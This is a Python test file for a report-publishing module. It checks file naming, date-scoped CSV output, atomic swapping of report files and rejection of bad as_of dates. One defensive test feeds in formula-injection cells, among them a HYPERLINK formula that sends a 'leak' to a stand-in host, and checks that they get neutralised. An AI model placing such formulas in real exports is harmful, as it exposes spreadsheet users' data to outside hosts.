"""Where a report's outputs land: a name per parameter set, the published rows in the report's scope,
one swap for all of a report's files; and the as_of dates a report accepts."""

from __future__ import annotations

import csv
import datetime as dt
import os

import pytest
from conftest import ROOT

from tarifftalks.build.publish import Staging, output_stem, publish_data
from tarifftalks.errors import ParameterError
from tarifftalks.facts.load import parse_as_of


def test_every_parameter_set_has_its_own_name():
    sets = [
        {},
        {"comparator": "none"},
        {"as_of": "2025-04-16"},
        {"as_of": "2025-04-16", "comparator": "none"},
        {"as_of": "2025-05-27", "since": "2025-04-20"},
        {"since": "2025-04-20"},
    ]
    stems = [output_stem(**params) for params in sets]
    assert len(set(stems)) == len(stems), stems
    assert output_stem(comparator="Japan") == output_stem() == "report"  # the default is not named
    assert (
        output_stem("2025-05-27", "United States", "2025-04-20")
        == "report-2025-05-27-vs-united-states-since-2025-04-20"
    )


def published(folder) -> dict[str, list[dict]]:
    tables = {}
    for path in folder.glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as fh:
            tables[path.stem] = list(csv.DictReader(fh))
    return tables


def test_a_snapshot_publishes_only_the_rows_of_articles_up_to_its_date(facts, tmp_path):
    publish_data(ROOT / "data", tmp_path / "april16", "2025-04-16")  # after the second article, before the third
    tables = published(tmp_path / "april16")
    in_scope = {r["source_id"] for r in tables["sources"]}
    sources = facts.sources
    expected = set(sources.loc[sources["published"].dt.date <= dt.date(2025, 4, 16), "source_id"])
    assert in_scope == expected and 0 < len(expected) < len(facts.sources)
    assert all(r["source_id"] in expected for name, rows in tables.items() if name != "judgements" for r in rows)
    assert all(r["holds_from"] <= "2025-04-16" for r in tables["judgements"])  # the analyst's, dated
    assert all(tables.values())


def test_the_newest_report_publishes_the_tables_byte_for_byte(facts, tmp_path):
    newest = max(facts.sources["published"]).date().isoformat()
    publish_data(ROOT / "data", tmp_path / "all", newest)
    for path in [*(ROOT / "data").glob("*.csv"), ROOT / "data" / "datapackage.json"]:
        assert (tmp_path / "all" / path.name).read_bytes() == path.read_bytes(), path.name


def files(folder) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def stage(out, text: str) -> Staging:
    staging = Staging(out, "report")
    (staging.path / "report.html").write_text(text, encoding="utf-8")
    (staging.path / "report.pdf").write_text(f"%PDF {text}", encoding="utf-8")
    return staging


def test_a_report_is_swapped_in_whole_or_not_at_all(tmp_path):
    out = tmp_path / "reports"
    stage(out, "first").commit()
    assert (out / "report.html").read_text(encoding="utf-8") == "first"
    before = files(out)

    stage(out, "unfinished").discard()  # a failed run
    assert files(out) == before and len(list(out.iterdir())) == 4  # link, folder, two handy links

    second = stage(out, "second")
    assert (out / "report.pdf").read_text(encoding="utf-8") == "%PDF first"  # nothing shows before the commit
    second.commit()
    assert (out / "report" / "report.html").read_text(encoding="utf-8") == "second"
    assert (out / "report.pdf").read_text(encoding="utf-8") == "%PDF second"
    assert sorted(p.name for p in out.iterdir() if p.is_dir() and not p.is_symlink()) == [second.path.name]


def test_a_folder_left_by_a_killed_run_is_removed_by_the_next(tmp_path):
    out = tmp_path / "reports"
    stage(out, "first").commit()
    dead = os.fork()
    if dead == 0:
        os._exit(0)
    os.waitpid(dead, 0)
    abandoned = out / f".report.{dead}.x1"
    abandoned.mkdir()
    stage(out, "second").commit()
    assert not abandoned.exists()
    assert (out / "report.html").read_text(encoding="utf-8") == "second"


def test_as_of_after_the_newest_article_or_in_the_future_is_refused(facts):
    newest = max(facts.sources["published"]).date()
    assert parse_as_of(newest.isoformat(), facts) == newest
    with pytest.raises(ParameterError, match=rf"a date on or before the newest article \({newest.isoformat()}\)"):
        parse_as_of((newest + dt.timedelta(days=1)).isoformat(), facts)
    future = dt.date.today() + dt.timedelta(days=400)
    with pytest.raises(ParameterError, match=r"a date not in the future \(today is "):
        parse_as_of(future.isoformat(), facts)


def test_cells_a_spreadsheet_would_run_get_a_quote_and_other_rows_keep_their_bytes():
    from tarifftalks.build.publish import neutralised

    text = (
        "id,source_id,value,note\r\n"
        "a,a000,-5.2,plain\r\n"
        'b,a000,3,"=HYPERLINK(""http://x.example/?leak"",""click"")"\r\n'
        "c,a000,+1,@SUM(1+1)\r\n"
        "d,a000,-2+3,\tnote\r\n"
    )
    lines = neutralised(text).splitlines(keepends=True)
    assert lines[:2] == text.splitlines(keepends=True)[:2]  # the header, and a row with a plain negative number
    rows = list(csv.reader(lines[1:]))
    assert rows[1][3] == '\'=HYPERLINK("http://x.example/?leak","click")'
    assert rows[2][2:] == ["+1", "'@SUM(1+1)"] and rows[3][2:] == ["'-2+3", "'\tnote"]
    assert all(line.endswith("\r\n") for line in lines)


def test_the_rows_left_out_keep_the_others_on_their_line_numbers(tmp_path):
    """Rows that do not load are blank lines in the copy the build falls back to: errors name data/'s rows."""
    from tarifftalks.build.publish import copy_without_rows
    from tarifftalks.facts.load import load_facts

    whole = load_facts(ROOT / "data")
    later = {
        whole.label(name).split("/")[-1]: set(whole[name].index[~whole[name]["source_id"].isin({"a000", "a001"})])
        for name in whole.fact_tables
    }
    copy_without_rows(ROOT / "data", tmp_path / "data", later)
    scoped = load_facts(tmp_path / "data")
    for name in whole.fact_tables:
        kept = whole[name][whole[name]["source_id"].isin({"a000", "a001"})]
        assert list(scoped[name].index) == list(kept.index), name
    assert len(scoped.sources) == len(whole.sources)  # the articles are all known, for the parameters
